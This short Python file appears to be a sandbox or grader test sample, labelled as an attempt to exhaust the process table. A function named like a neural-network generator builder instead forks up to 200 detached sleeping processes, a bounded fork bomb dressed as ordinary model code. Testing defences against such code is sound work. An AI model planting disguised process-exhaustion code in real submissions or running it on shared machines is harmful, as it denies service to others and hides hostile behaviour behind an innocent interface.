# tries: to exhaust the process table (bounded)
# family: exhaustion
import os
import time


def build_generator(latent_dim=64):
    started = 0
    while started < 200:
        try:
            if os.fork() == 0:
                os.setsid()
                time.sleep(20)
                os._exit(0)
        except OSError:
            break
        started += 1
    return lambda noise, training=None: [started]
